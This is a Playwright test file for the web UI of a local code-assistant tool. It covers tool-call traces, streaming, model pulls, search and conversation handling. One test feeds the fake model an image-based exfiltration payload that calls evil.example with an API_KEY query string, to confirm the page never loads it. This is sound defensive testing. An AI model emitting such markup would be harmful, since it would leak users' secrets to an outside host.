"""The web UI in headless Chromium (Debian's, driven by the playwright package) against the real
server and the fake Ollama."""

from __future__ import annotations

import time
from typing import Any

import httpx
import pytest

from tests.fakes.ollama import DONE, FakeOllama
from tests.helpers import Layout, free_port
from tests.web.ui import SHOTS, answer, ready, send, tool_round, until

pytestmark = pytest.mark.browser


def test_two_tool_calls_trace_then_streamed_answer(
    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
) -> None:
    server = live_server(layout.repo, ollama_url=fake_ollama.url)
    fake_ollama.chat_script(
        tool_round(("search_files", {"query": "main"}), ("read_file", {"path": "src/main.py"})),
        answer("`main()` returns ", "**42**.\n\n```python\nreturn 42\n```", delay=0.3),
    )
    page, _ = open_page(server.url)
    ready(page)
    send(page, "What does main return?")
    page.wait_for_selector(".message.assistant:not(.streaming)", timeout=15_000)
    entries = page.locator(".trace-entry")
    assert entries.count() == 2
    for i, (name, summary) in enumerate([("search_files", "match"), ("read_file", "read lines 1-2 of src/main.py")]):
        entry = entries.nth(i)
        assert entry.locator(".tool-name").inner_text() == name
        assert "completed" in entry.get_attribute("class")
        assert entry.locator(".status").inner_text() == "completed"
        assert entry.locator(".duration").inner_text().endswith(" ms")
        assert summary in entry.locator(".summary").inner_text()
    assert '"path":"src/main.py"' in entries.nth(1).locator(".args").inner_text()
    entries.nth(1).locator("summary").click()
    assert "return 42" in entries.nth(1).locator(".result-text").inner_text()
    states = page.evaluate("window.__traceStates")
    for entry_id in {s[0] for s in states}:
        classes = [s[1] for s in states if s[0] == entry_id]
        assert "running" in classes[0] and "completed" in classes[-1]
    body = page.locator(".message.assistant .body")
    assert body.locator("strong").inner_text() == "42"
    assert body.locator("pre code.hljs").count() == 1  # highlighted
    assert body.locator("button.copy").count() == 1
    SHOTS.mkdir(exist_ok=True)
    page.screenshot(path=str(SHOTS / "chat-wide.png"))


def test_stop_mid_answer_closes_the_stream(
    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
) -> None:
    server = live_server(layout.repo, ollama_url=fake_ollama.url)
    fake_ollama.chat_script(answer("one ", "two ", "three ", "four ", delay=1.0))
    page, _ = open_page(server.url)
    ready(page)
    send(page, "count")
    page.wait_for_selector(".message.assistant .body:has-text('one')", timeout=10_000)
    assert page.locator("#stop").is_visible()
    page.click("#stop")
    page.wait_for_selector(".message.assistant.stopped", timeout=5_000)
    assert page.locator(".message.assistant .body").inner_text() == "one"
    assert "Stopped before the answer was finished" in page.locator(".message.assistant .note").inner_text()
    assert page.locator("#send").is_visible()
    deadline = time.monotonic() + 5
    while not fake_ollama.disconnects and time.monotonic() < deadline:
        time.sleep(0.05)
    assert [what for what, _ in fake_ollama.disconnects] == ["chat"]


def test_model_pull_progress_reaches_100(
    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
) -> None:
    server = live_server(layout.repo, ollama_url=fake_ollama.url)
    fake_ollama.chunk_delay = 0.1
    page, _ = open_page(server.url)
    ready(page)
    options = page.locator("#model-picker option")
    assert page.locator("#model-picker").input_value() == "qwen2.5-coder:7b"  # the default is preselected
    assert "tools" in options.filter(has_text="qwen2.5-coder").inner_text()
    assert "tools" not in options.filter(has_text="codellama").inner_text()
    page.click("#pull-open")
    page.fill("#pull-name", "tinyllama:1b")
    page.click("#pull-start")
    page.wait_for_selector("#pull-status:has-text('is ready')", timeout=15_000)
    assert page.locator("#pull-progress").evaluate("p => p.value") == 100
    seen = page.evaluate("[...document.querySelectorAll('#model-picker option')].map(o => o.value)")
    assert "tinyllama:1b" in seen  # the list was refreshed


def test_file_browser_opens_a_file(layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any) -> None:
    server = live_server(layout.repo, ollama_url=fake_ollama.url)
    page, _ = open_page(server.url)
    ready(page)
    page.click("#file-list >> text=src/")
    page.click("#file-list >> text=main.py")
    page.wait_for_selector("#file-preview:not([hidden])")
    assert page.locator("#preview-name").inner_text() == "src/main.py"
    assert "return 42" in page.locator("#preview-code").inner_text()


def test_without_a_model_server_a_question_gets_search_results_said_to_be_that(
    layout: Layout, live_server: Any, open_page: Any
) -> None:
    server = live_server(layout.repo, ollama_url=f"http://127.0.0.1:{free_port()}")
    page, _ = open_page(server.url)
    ready(page)
    assert page.locator("#health").inner_text() == "Ollama not reachable"
    send(page, "what does main return")
    page.wait_for_selector(".message.assistant.search-answer", timeout=10_000)
    answer = page.locator(".message.assistant .body")
    text = answer.inner_text()
    # headed as search results, with the way forward: start Ollama and pull a model, or another server
    assert text.startswith("Search results, not a model's answer.")
    assert "ollama serve" in text and "Pull…" in text and "--backend openai --base-url" in text
    link = answer.locator("a.cite").first
    assert link.inner_text() == "src/main.py:1-2"
    link.click()
    page.wait_for_selector("#file-preview:not([hidden])", timeout=5_000)
    assert page.locator("#preview-name").inner_text() == "src/main.py"
    assert page.locator("#error").is_hidden()
    page.screenshot(path=str(SHOTS / "no-model-server.png"))


def test_a_llama_cpp_backend_is_named_and_gguf_models_shortened(
    layout: Layout, live_server: Any, open_page: Any
) -> None:
    from tests.fakes.openai import FakeOpenAI

    fake = FakeOpenAI(models=[{"name": "/models/SmolLM2-135M-Instruct-Q8_0.gguf"}]).start()
    try:
        server = live_server(layout.repo, backend="openai", base_url=fake.base_url)
        page, _ = open_page(server.url)
        ready(page)
        page.wait_for_function(
            "document.querySelector('#health .label').textContent.startsWith('llama.cpp at')", timeout=10_000
        )
        assert fake.base_url in page.locator("#health").inner_text()
        option = page.locator("#model-picker option").first
        assert option.inner_text().startswith("SmolLM2-135M-Instruct-Q8_0")
        assert option.get_attribute("title").startswith("/models/SmolLM2-135M-Instruct-Q8_0.gguf")
        page.screenshot(path=str(SHOTS / "llama-cpp-header.png"))
    finally:
        fake.down()


def test_the_file_panel_can_be_widened_by_dragging(
    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
) -> None:
    server = live_server(layout.repo, ollama_url=fake_ollama.url)
    page, _ = open_page(server.url)
    ready(page)
    before = page.locator("#files-panel").bounding_box()
    divider = page.locator("#files-divider").bounding_box()
    assert before and divider
    x, y = divider["x"] + divider["width"] / 2, divider["y"] + 200
    page.mouse.move(x, y)
    page.mouse.down()
    page.mouse.move(x + 250, y, steps=5)
    page.mouse.up()
    after = page.locator("#files-panel").bounding_box()
    assert after and after["width"] > before["width"] + 200
    page.reload()
    ready(page)
    kept = page.locator("#files-panel").bounding_box()
    assert kept and abs(kept["width"] - after["width"]) < 2


def test_an_answer_after_the_round_limit_has_a_quiet_note(
    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
) -> None:
    server = live_server(layout.repo, ollama_url=fake_ollama.url, max_rounds=1)
    fake_ollama.chat_script(
        tool_round(("list_files", {})), [{"message": {"role": "assistant", "content": "Here is what I found."}}, DONE]
    )
    page, _ = open_page(server.url)
    ready(page)
    send(page, "look around")
    page.wait_for_selector(".message.assistant .note", timeout=10_000)
    assert "ran out of tool rounds" in page.locator(".message.assistant .note").inner_text()


def test_api_key_is_asked_once_and_kept_for_the_tab(
    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
) -> None:
    server = live_server(layout.repo, ollama_url=fake_ollama.url, api_key="s3cret-key")
    page, _ = open_page(server.url)
    page.wait_for_selector("#key-dialog[open]", timeout=10_000)
    page.fill("#key-input", "s3cret-key")
    page.click("#key-save")
    ready(page)
    assert "connected" in page.locator("#health").inner_text()
    assert page.locator("#file-list >> text=README.md").count() == 1
    page.reload()
    ready(page)  # the key was kept: no second prompt
    assert not page.locator("#key-dialog").evaluate("d => d.open")


def test_remote_markdown_image_is_never_requested(
    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
) -> None:
    server = live_server(layout.repo, ollama_url=fake_ollama.url)
    fake_ollama.chat_script(
        answer("Here: ![secret](http://evil.example/leak.png?d=API_KEY) and <img src='https://evil.example/x.gif'>")
    )
    page, requests = open_page(server.url)
    ready(page)
    send(page, "show me")
    page.wait_for_selector(".message.assistant:not(.streaming)", timeout=10_000)
    # rendered (an <img> would be requested as it is inserted); the page's event stream stays
    # open, so "network idle" never comes
    page.wait_for_selector(".message.assistant:has-text('image not loaded')")
    assert not [url for url in requests if "evil.example" in url]
    assert page.locator(".message.assistant img").count() == 0
    assert "image not loaded" in page.locator(".message.assistant").inner_text()
    csp = page.evaluate("fetch('/').then(r => r.headers.get('content-security-policy'))")
    assert "img-src 'self' data:" in csp


def test_enter_sends_shift_enter_adds_a_line_and_narrow_layout(
    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
) -> None:
    server = live_server(layout.repo, ollama_url=fake_ollama.url)
    fake_ollama.chat_script(answer("ok"))
    page, _ = open_page(server.url, width=400, height=800)
    ready(page)
    page.click("#prompt")
    page.keyboard.type("first line")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("second line")
    assert page.locator("#prompt").input_value() == "first line\nsecond line"
    page.keyboard.press("Enter")
    page.wait_for_selector(".message.assistant:not(.streaming)", timeout=10_000)
    assert page.locator(".message.user .body").inner_text() == "first line\nsecond line"
    assert page.evaluate("document.documentElement.scrollWidth") <= 400  # nothing overflows sideways
    assert page.locator("#conversation-list .conversation").count() == 1  # the conversations, above the chat
    SHOTS.mkdir(exist_ok=True)
    page.screenshot(path=str(SHOTS / "narrow-chat.png"))
    page.click(".tabs >> text=Trace")
    assert page.locator("#trace-panel").is_visible() and not page.locator("#chat-panel").is_visible()
    SHOTS.mkdir(exist_ok=True)
    page.screenshot(path=str(SHOTS / "narrow.png"))


def test_the_search_box_groups_results_by_file_and_opens_the_preview_at_the_line(
    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
) -> None:
    lines = [f"VALUE_{i} = {i}\n" for i in range(1, 120)]
    lines += [
        "\n",
        "def backoff_delay(attempt):\n",
        '    """How long to sleep before the next retry of a failed request."""\n',
        "    return min(60, 2 ** attempt)\n",
    ]
    (layout.repo / "src" / "retry.py").write_text("".join(lines))
    (layout.repo / "src" / "client.py").write_text(
        "from retry import backoff_delay\n\n\ndef send(request):\n    '''Send and retry a failed request.'''\n"
    )
    server = live_server(layout.repo, ollama_url=fake_ollama.url)
    page, _ = open_page(server.url)
    ready(page)
    page.fill("#code-search-input", "how long to sleep before a retry")
    page.press("#code-search-input", "Enter")
    page.wait_for_selector(".search-file", timeout=10_000)
    files = page.locator(".search-path").all_inner_texts()
    assert files[0] == "src/retry.py" and "src/client.py" in files
    first = page.locator(".search-hit").first
    assert first.locator(".search-lines").inner_text() == "121–123"  # noqa: RUF001 - the UI's own characters
    assert first.locator(".search-symbol").inner_text() == "backoff_delay"
    labels = first.locator(".why-label").all_inner_texts()
    assert "source file" in labels and any(label.startswith("body:") for label in labels)
    page.screenshot(path=str(SHOTS / "search-results.png"))
    first.click()
    page.wait_for_selector("#file-preview:not([hidden]) #preview-mark:not([hidden])", timeout=5_000)
    assert page.locator("#preview-name").inner_text() == "src/retry.py"
    assert page.locator("#preview-mark").get_attribute("data-line") == "121"
    scrolled = page.evaluate("document.getElementById('preview-pre').scrollTop")
    assert scrolled > 1000  # line 121 of 19 px lines: scrolled well past the top
    mark = page.locator("#preview-mark").bounding_box()
    pre = page.locator("#preview-pre").bounding_box()
    assert mark and pre and pre["y"] <= mark["y"] <= pre["y"] + pre["height"]  # the marked lines are in view
    page.screenshot(path=str(SHOTS / "search-preview.png"))
    page.press("#code-search-input", "Escape")
    assert page.locator("#search-results").is_hidden()


def test_conversations_are_kept_listed_branched_and_cited(
    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any
) -> None:
    server = live_server(layout.repo, ollama_url=fake_ollama.url)
    fake_ollama.chat_script(
        tool_round(("read_file", {"path": "src/main.py"})),
        answer("`main` returns 42: see src/main.py:2, not src/gone.py:3 or src/main.py:90."),
        answer("A second answer, asked again."),
        answer("Edited question, new answer."),
    )
    page, _ = open_page(server.url)
    ready(page)
    send(page, "What does main return?")
    page.wait_for_selector(".message.assistant .sources", timeout=15_000)
    # citations: the right one links to the preview, the wrong path and the line past the end do not
    body = page.locator(".message.assistant .body")
    assert body.locator("a.cite").all_inner_texts() == ["src/main.py:2"]
    assert body.locator(".cite.unverified").all_inner_texts() == ["src/gone.py:3", "src/main.py:90"]
    assert page.locator(".message.assistant .sources a.cite").all_inner_texts() == ["src/main.py:1-2"]
    body.locator("a.cite").click()
    page.wait_for_selector("#preview-mark:not([hidden])", timeout=5_000)
    assert page.locator("#preview-name").inner_text() == "src/main.py"
    assert page.locator("#preview-mark").get_attribute("data-line") == "2"
    page.keyboard.press("Escape")  # the code viewer closes; the conversations list comes back
    # the sidebar lists it, titled by the question; a reload brings everything back, trace too
    page.wait_for_selector(".conversation.active", timeout=5_000)
    assert page.locator(".conversation.active .conversation-title").inner_text() == "What does main return?"
    page.reload()
    ready(page)
    page.wait_for_selector(".message.assistant .sources", timeout=10_000)
    assert page.locator(".message.user .body").inner_text() == "What does main return?"
    assert page.locator(".trace-entry .tool-name").all_inner_texts() == ["read_file"]
    assert page.locator(".message.assistant a.cite").first.inner_text() == "src/main.py:2"
    # asking again makes a second version, switched with ‹ 2/2 ›  # noqa: RUF003 - the UI's own characters
    page.click(".message.assistant >> text=Ask again")
    page.wait_for_selector(".message.assistant .branch-count >> text=2/2", timeout=10_000)
    assert "asked again" in page.locator(".message.assistant .body").inner_text()
    page.click(".message.assistant .branches button >> nth=0")
    page.wait_for_selector(".message.assistant .branch-count >> text=1/2", timeout=5_000)
    assert "returns 42" in page.locator(".message.assistant .body").inner_text()
    page.screenshot(path=str(SHOTS / "conversation-branches.png"))
    # editing the question makes a branch of the question
    page.click(".message.user >> text=Edit")
    page.fill(".edit-box", "What does main return, exactly?")
    page.click("text=Save and ask")
    page.wait_for_selector(".message.user .branch-count >> text=2/2", timeout=10_000)
    assert page.locator(".message.user .body").inner_text() == "What does main return, exactly?"
    assert page.locator(".message.assistant .body").inner_text() == "Edited question, new answer."
    # a second conversation, then rename and delete (with undo) from the sidebar, newest first
    page.click("#new-conversation")
    assert page.locator(".message").count() == 0
    fake_ollama.chat_script(answer("Nothing else."))
    send(page, "Anything else?")
    # the edit of the first question retitled the conversation (nobody had named it)
    until(
        lambda: (
            page.locator(".conversation-title").all_inner_texts()
            == ["Anything else?", "What does main return, exactly?"]
        )
    )
    first = page.locator(".conversation").nth(1)
    first.hover()
    first.locator("button[title=Rename]").click()
    page.fill(".rename-box", "About main")
    page.press(".rename-box", "Enter")
    page.wait_for_selector(".conversation-title >> text=About main", timeout=5_000)
    page.fill("#conversation-search", "exactly")  # words of a message, no longer the title
    until(lambda: page.locator(".conversation").count() == 1)
    assert page.locator(".conversation-title").all_inner_texts() == ["About main"]
    page.fill("#conversation-search", "")
    until(lambda: page.locator(".conversation").count() == 2)
    target = page.locator(".conversation").nth(0)
    target.hover()
    target.locator("button[title=Delete]").click()
    assert page.locator("#toast").is_visible() and page.locator(".conversation:visible").count() == 1
    page.screenshot(path=str(SHOTS / "conversation-sidebar.png"))
    page.click("#toast >> text=Undo")
    assert page.locator(".conversation:visible").count() == 2
    # fork: a new conversation holding everything up to an answer
    page.click(".message.assistant >> text=Fork")
    page.wait_for_selector(".conversation.active .conversation-title >> text=(fork)", timeout=5_000)
    assert page.locator(".message .body").all_inner_texts() == ["Anything else?", "Nothing else."]
    listed = httpx.get(f"{server.url}/api/v1/conversations", timeout=5).json()["data"]["conversations"]
    assert len(listed) == 3


def test_the_search_box_searches_every_repository_when_asked(
    layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any, tmp_path: Any
) -> None:
    other = tmp_path / "other"
    other.mkdir()
    (other / "elsewhere.py").write_text("def main_elsewhere():\n    return 'far'\n")
    server = live_server([layout.repo, other], ollama_url=fake_ollama.url, index_on_start=True)
    page, _ = open_page(server.url)
    ready(page)
    assert page.locator("#search-all").is_visible()
    page.fill("#code-search-input", "main")
    page.press("#code-search-input", "Enter")
    page.wait_for_selector(".search-file")
    assert page.locator(".search-repo").count() == 0  # the picked repository only
    page.check("#search-all-input")
    page.press("#code-search-input", "Enter")
    page.wait_for_selector(".search-repo")
    assert {t.strip() for t in page.locator(".search-repo").all_inner_texts()} == {"repo", "other"}
    page.locator(".search-file:has(.search-repo:text-is('other')) .search-hit").first.click()
    page.wait_for_selector("#preview-code:has-text('far')")
    page.screenshot(path=str(SHOTS / "search-every-repo.png"))
